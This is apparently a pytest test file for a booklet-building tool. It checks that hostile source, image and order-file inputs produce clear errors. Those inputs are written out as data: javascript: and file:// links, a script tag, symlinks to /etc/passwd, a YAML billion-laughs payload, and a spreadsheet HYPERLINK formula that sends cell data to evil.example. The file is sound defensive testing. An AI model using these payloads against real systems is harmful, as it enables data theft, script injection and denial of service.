"""Hostile input and faults, in one table: each attack is a line, with what it must give.

Every content attack is run through every command that loads content (build, check,
list, catalogue, and serve's rebuild): each must end with a clear problem naming the file,
the line where there is one, and the rule, exit status 1 where the command fails, no
traceback, and the good booklet beside it still built. Order files have their own table
(they are read by ``booklet order``); hostile web requests are in tests/test_serve.py.
"""

from __future__ import annotations

import logging
import os
import shutil
import threading
import time
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from click.testing import CliRunner

from booklet import output
from booklet.cli import main
from booklet.web.serve import Preview

from .conftest import FIXTURES, GOOD_FRONT

pytestmark = pytest.mark.slow

SLUG = "hostile"


def _symlink_out(folder: Path) -> None:
    (folder / "images").mkdir(exist_ok=True)
    (folder / "images" / "notes.png").symlink_to("/etc/passwd")


def _easy_read_to_dev_zero(folder: Path) -> None:
    (folder / "easy-read.md").symlink_to("/dev/zero")


def _easy_read_fifo(folder: Path) -> None:
    os.mkfifo(folder / "easy-read.md")


def _truncated_png(folder: Path) -> None:
    from PIL import Image

    (folder / "images").mkdir(exist_ok=True)
    Image.new("RGB", (64, 64), "red").save(folder / "images" / "cut.png")
    data = (folder / "images" / "cut.png").read_bytes()
    (folder / "images" / "cut.png").write_bytes(data[: len(data) // 2])


def _huge_picture(folder: Path) -> None:
    (folder / "images").mkdir(exist_ok=True)
    with (folder / "images" / "huge.png").open("wb") as handle:
        handle.truncate(21 * 2**20)


@dataclass(frozen=True)
class Attack:
    """A hostile booklet: what is written, and the problem it must give."""

    name: str
    body: str = "# A\n\nText.\n"  # after GOOD_FRONT (whose body starts on line 10)
    front: str = GOOD_FRONT.replace("TST-99", "HOS-01")
    easy: str | None = None  # easy-read.md, when the attack is there
    raw: bytes | None = None  # booklet.md's bytes, when they are not text
    prepare: Callable[[Path], None] | None = None  # more files in the booklet's folder
    file: str = "booklet.md"
    line: int | None = 12
    rule: str = ""
    loads: bool = True  # front matter usable: the booklet is still listed in the catalogue
    extra: tuple[str, ...] = field(default=())


ATTACKS = [
    Attack(
        "javascript link", body="# A\n\n[scans](javascript:alert(document.domain))\n", rule="SRC-LINK-TARGET"
    ),
    Attack("file link", body="# A\n\n[the form](file:///etc/passwd)\n", rule="SRC-LINK-TARGET"),
    Attack("data link", body="# A\n\n[the form](data:text/html,<b>x</b>)\n", rule="SRC-LINK-TARGET"),
    Attack("vbscript link", body="# A\n\n[the form](vbscript:msgbox)\n", rule="SRC-LINK-TARGET"),
    Attack(
        "relative file link", body="# A\n\n[the cream picture](images/cream.svg)\n", rule="SRC-LINK-TARGET"
    ),
    Attack(
        "easy-read javascript link",
        easy="---\ntitle: T\n---\n\n# A\n\n![A doctor](icon:doctor) [Ask us](javascript:alert(1)).\n",
        file="easy-read.md",
        line=7,
        rule="SRC-LINK-TARGET",
    ),
    Attack(
        "picture through a symlink out of the folder",
        body="# A\n\n![Notes about the liver](images/notes.png)\n",
        prepare=_symlink_out,
        rule="SRC-IMAGE-FILE",
    ),
    Attack("picture outside the folder", body="# A\n\n![A liver](../../etc/x.png)\n", rule="SRC-IMAGE-FILE"),
    Attack(
        "picture over 20 MB",
        body="# A\n\n![A photo of a ward](images/huge.png)\n",
        prepare=_huge_picture,
        rule="SRC-IMAGE-FILE",
    ),
    Attack("Chinese text with no font for it", body="# A\n\n乙肝 is a word.\n", rule="SRC-GLYPH"),
    Attack(
        "truncated PNG",
        body="# A\n\n![A photo of a ward](images/cut.png)\n",
        prepare=_truncated_png,
        rule="SRC-IMAGE-FILE",
    ),
    Attack("raw HTML", body="# A\n\n<script>alert(1)</script>\n", rule="SRC-RAW-HTML"),
    Attack("code fence", body="# A\n\n```\ncode\n```\n", rule="SRC-CODE-BLOCK"),
    Attack("heading with 2,000 spaces", body="# a" + " " * 2000 + "x\n", line=10, rule="SRC-BLOCK-LONG"),
    Attack(
        "unclosed ignore comment",
        body="# A\n\n<!-- booklet: ignore " + "A" * 2000 + " " * 2000 + "\n",
        rule="SRC-BLOCK-LONG",
    ),
    Attack("citation opener repeated", body="# A\n\n" + "[@" * 20000 + "\n", rule="SRC-BLOCK-LONG"),
    Attack("brackets repeated", body="# A\n\n" + "[" * 20000 + "\n", rule="SRC-BLOCK-LONG"),
    Attack(
        "list nested 1,000 deep",
        body="# A\n\n" + "".join("    " * i + "- a\n" for i in range(1000)),
        line=20,
        rule="SRC-NESTING",
    ),
    Attack("quotes nested 1,000 deep", body="# A\n\n" + ">" * 1000 + " a\n", rule="SRC-NESTING"),
    Attack(
        "YAML billion laughs",
        front=GOOD_FRONT.replace(
            "published: 2026-01-01",
            "a: &a [x, x, x, x, x, x, x, x, x]\nb: &b [*a, *a, *a, *a, *a, *a, *a, *a, *a]\npublished: *b",
        ),
        line=4,
        rule="LOAD-ERROR",
        loads=False,
    ),
    Attack(
        "YAML nested 990 deep",
        front=GOOD_FRONT.replace("published: 2026-01-01", "published: " + "[" * 990 + "]" * 990),
        line=4,
        rule="LOAD-ERROR",
        loads=False,
    ),
    Attack(
        "impossible date",
        front=GOOD_FRONT.replace("published: 2026-01-01", "published: 2026-01-32"),
        line=4,
        rule="META-FIELD",
        loads=False,
    ),
    Attack(
        "invalid UTF-8", raw=GOOD_FRONT.encode() + b"# Caf\xe9\n", line=10, rule="LOAD-ERROR", loads=False
    ),
    Attack("source over 2 MB", body="# A\n\n" + "word " * 500_000, line=None, rule="LOAD-ERROR", loads=False),
    Attack(
        "NUL in the title",
        front=GOOD_FRONT.replace("title: A test booklet", "title: A test\x00 booklet"),
        line=2,
        rule="LOAD-ERROR",
        loads=False,
    ),
    Attack("ESC in the body", body="# A\n\nText \x1b[2J.\n", rule="LOAD-ERROR", loads=False),
    Attack(
        "U+FFFF in the easy read",
        easy="---\ntitle: T\n---\n\n# A\n\n![A doctor](icon:doctor) Ask us\uffff.\n",
        file="easy-read.md",
        line=7,
        rule="LOAD-ERROR",
    ),
    Attack(
        "easy-read.md linked to /dev/zero",
        prepare=_easy_read_to_dev_zero,
        file="easy-read.md",
        line=None,
        rule="LOAD-ERROR",
    ),
    Attack("easy-read.md a FIFO", prepare=_easy_read_fifo, file="easy-read.md", line=None, rule="LOAD-ERROR"),
]


def write_attack(root: Path, attack: Attack) -> Path:
    """Return a content folder: the sample booklet, and the hostile one beside it."""
    content = root / "content"
    shutil.copytree(FIXTURES, content)
    folder = content / SLUG
    folder.mkdir()
    path = folder / "booklet.md"
    if attack.raw is not None:
        path.write_bytes(attack.raw)
    else:
        path.write_text(attack.front + attack.body, encoding="utf-8")
    if attack.easy is not None:
        (folder / "easy-read.md").write_text(attack.easy, encoding="utf-8")
    if attack.prepare is not None:
        attack.prepare(folder)
    return content


@pytest.fixture(scope="module")
def out(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """One output folder for every attack: the good booklet is rendered once, then current."""
    return tmp_path_factory.mktemp("out")


def expected(content: Path, attack: Attack) -> str:
    where = content / SLUG / attack.file
    return f"{where}:{attack.line}:" if attack.line else f"{where}:"


@pytest.mark.parametrize("attack", ATTACKS, ids=[a.name for a in ATTACKS])
def test_attack_gives_a_clear_problem_in_every_command(
    attack: Attack, tmp_path: Path, out: Path, caplog: pytest.LogCaptureFixture
) -> None:
    content = write_attack(tmp_path, attack)
    where = expected(content, attack)
    shutil.rmtree(out / SLUG, ignore_errors=True)  # what an earlier attack's booklet made
    runner = CliRunner()
    common = ["--content", str(content), "--out", str(out)]
    results = {
        "build": runner.invoke(main, ["build", "-j", "1", *common]),
        "check": runner.invoke(main, ["check", SLUG, *common]),
        "list": runner.invoke(main, ["list", "--content", str(content)]),
        "catalogue": runner.invoke(main, ["catalogue", *common]),
    }
    for command, result in results.items():
        assert "Traceback" not in result.output, (command, result.output)
        assert not isinstance(result.exception, Exception) or isinstance(result.exception, SystemExit), (
            command
        )
        if command == "catalogue" and attack.loads:
            assert result.exit_code == 0, (command, result.output)  # listed; its build reports it
            continue
        assert result.exit_code == 1, (command, result.output)
        lines = [line for line in result.output.splitlines() if where in line]
        assert lines, (command, where, result.output[-2000:])
        assert any(attack.rule in line for line in lines), (command, lines)
    assert attack.rule in results["check"].output
    assert (out / "sample-booklet" / "sample-booklet-standard.pdf").is_file()  # the good booklet is built
    stopped = "easy-read" if attack.file == "easy-read.md" else "standard"
    assert not (out / SLUG / f"{SLUG}-{stopped}.pdf").exists()  # what the problem stops is not made
    caplog.clear()
    with caplog.at_level(logging.INFO, logger="booklet"):
        Preview(content, tmp_path / "served").refresh(["*"])  # serve's rebuild: logs, never raises
    assert where in caplog.text


def test_only_the_pictures_a_booklet_uses_are_published(tmp_path: Path, out: Path) -> None:
    """A symlink out of the folder, a hidden file and an unused picture in images/ stay unpublished."""
    content = write_attack(
        tmp_path, Attack("clean", body="# A\n\n![A hand putting on cream](images/cream.svg)\n")
    )
    images = content / SLUG / "images"
    images.mkdir()
    shutil.copy(content / "sample-booklet" / "images" / "cream.svg", images / "cream.svg")
    (images / "notes.txt").symlink_to("/etc/passwd")
    (images / ".secret.png").write_bytes(b"secret")
    (images / "unused.svg").write_text("<svg xmlns='http://www.w3.org/2000/svg'/>")
    result = CliRunner().invoke(
        main, ["build", SLUG, "-j", "1", "--content", str(content), "--out", str(out)]
    )
    assert result.exit_code == 0, result.output
    assert sorted(p.name for p in (out / SLUG / "images").iterdir()) == ["cream.svg"]


WRITE_FAULTS = [
    (28, "No space left on device", "Fix: free some space"),
    (30, "Read-only file system", "Fix: give --out a folder on a disk that is not read-only"),
    (13, "Permission denied", "Fix: make the folder writable"),
]


@pytest.mark.parametrize(("code", "why", "fix"), WRITE_FAULTS, ids=[f[1] for f in WRITE_FAULTS])
def test_a_failed_write_gives_a_clear_error_and_keeps_earlier_outputs(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, code: int, why: str, fix: str
) -> None:
    content = tmp_path / "content"
    shutil.copytree(FIXTURES, content)
    out = tmp_path / "out"
    runner = CliRunner()
    args = ["build", "--variant", "standard", "-j", "1", "--content", str(content), "--out", str(out)]
    assert runner.invoke(main, args).exit_code == 0
    pdf = out / "sample-booklet" / "sample-booklet-standard.pdf"
    before = pdf.read_bytes()
    source = content / "sample-booklet" / "booklet.md"
    source.write_text(source.read_text(encoding="utf-8").replace("This booklet explains", "It explains"))
    real = output._write

    def full(path: Path, data: bytes) -> None:
        if path.suffix == ".pdf":
            raise OSError(code, why)
        real(path, data)

    monkeypatch.setattr(output, "_write", full)
    result = runner.invoke(main, args)
    assert result.exit_code == 1
    assert f"{pdf}: cannot be written ({why})" in result.output
    assert fix in result.output
    assert "Traceback" not in result.output
    assert pdf.read_bytes() == before  # the earlier output is intact
    assert not [p for p in out.rglob("*.tmp")]


def test_a_second_build_waits_for_the_first(tmp_path: Path, caplog: pytest.LogCaptureFixture) -> None:
    """One writer at a time: a build started while out/ is locked waits, and says who holds it."""
    content = tmp_path / "content"
    shutil.copytree(FIXTURES, content)
    out = tmp_path / "out"
    done = threading.Event()

    def second() -> None:
        CliRunner().invoke(
            main, ["build", "--variant", "standard", "-j", "1", "--content", str(content), "--out", str(out)]
        )
        done.set()

    with caplog.at_level(logging.WARNING, logger="booklet"), output.locked(out):
        thread = threading.Thread(target=second)
        thread.start()
        time.sleep(1.0)  # an ordering, not a timing: the second build must still be waiting
        assert not done.is_set()
        assert f"Waiting for booklet (process {os.getpid()}), which is writing into {out}" in caplog.text
    thread.join(120)
    assert done.is_set()
    assert (out / "sample-booklet" / "sample-booklet-standard.pdf").is_file()


def test_temporary_files_of_a_running_writer_are_kept(tmp_path: Path) -> None:
    """A build cleans up after killed writers only: another live process's temporary file stays."""
    out = tmp_path / "out"
    out.mkdir()
    mine = out / f".a.pdf.{os.getpid()}.x1.tmp"
    dead = out / ".b.pdf.999999999.x2.tmp"
    old_style = out / ".c.pdf.x3.tmp"
    for path in (mine, dead, old_style):
        path.write_bytes(b"part")
    output.clean_temporary(out)
    assert mine.exists()
    assert not dead.exists()
    assert not old_style.exists()


def test_a_damaged_cache_file_does_not_stop_builds(tmp_path: Path) -> None:
    content = tmp_path / "content"
    shutil.copytree(FIXTURES, content)
    out = tmp_path / "out"
    out.mkdir()
    (out / ".booklet-cache.json").write_text('{"_static": [], "x": {"key": 1}}')
    args = ["build", "--variant", "standard", "-j", "1", "--content", str(content), "--out", str(out)]
    result = CliRunner().invoke(main, args)
    assert result.exit_code == 0, result.output


# Order files: (name, the rows after the header, the line and words the refusal must give).
TO = ",Sister Lee,1 High St,01234 567890"  # where the parcel goes: every row needs it
ORDER_ATTACKS = [
    (
        "formula is neutralised",
        'TST-01,standard,5,"=HYPERLINK(""http://evil.example/?""&A1,""Ward 7"")"' + TO + "\n",
        None,
        "",
    ),
    (
        "unterminated quote",
        'TST-01,standard,5,"Ward 7\nTST-01,standard,500,Clinic B' + TO + "\n",
        2,
        "never closed",
    ),
    ("quantity of 5,000 digits", "TST-01,standard," + "9" * 5000 + ",Ward 7" + TO + "\n", 2, "quantity"),
    ("a typo of 100000 copies", "TST-01,standard,100000,Ward 7" + TO + "\n", 2, "more than the 500 copies"),
    ("no delivery address", "TST-01,standard,5,Ward 7,Sister Lee,,01234 567890\n", 2, "address is empty"),
    (
        "field over 128 KiB",
        "TST-01,standard,5," + "a" * 140_000 + TO + "\n",
        2,
        "longer than 1,000 characters",
    ),
    ("unknown code", "XXX-99,standard,5,Ward 7" + TO + "\n", 2, "unknown booklet code"),
]


@pytest.mark.parametrize(("name", "rows", "line", "words"), ORDER_ATTACKS, ids=[a[0] for a in ORDER_ATTACKS])
def test_order_attack(tmp_path: Path, name: str, rows: str, line: int | None, words: str) -> None:
    content = tmp_path / "content"
    shutil.copytree(FIXTURES, content)
    orders = tmp_path / "orders.csv"
    orders.write_text(
        "code,variant,quantity,ordered_by,delivery_name,address,contact\n" + rows, encoding="utf-8"
    )
    run = tmp_path / "run"
    result = CliRunner().invoke(
        main, ["order", str(orders), "--out", str(run), "--no-imposed", "--content", str(content)]
    )
    assert "Traceback" not in result.output
    if line is None:  # accepted, and made harmless
        assert result.exit_code == 0, result.output
        assert "'=HYPERLINK" in (run / "run.csv").read_text(encoding="utf-8")
        return
    assert result.exit_code == 1, result.output
    assert f"{orders}:{line}:" in result.output
    assert words in result.output
    assert not run.exists()  # nothing made from a refused order file
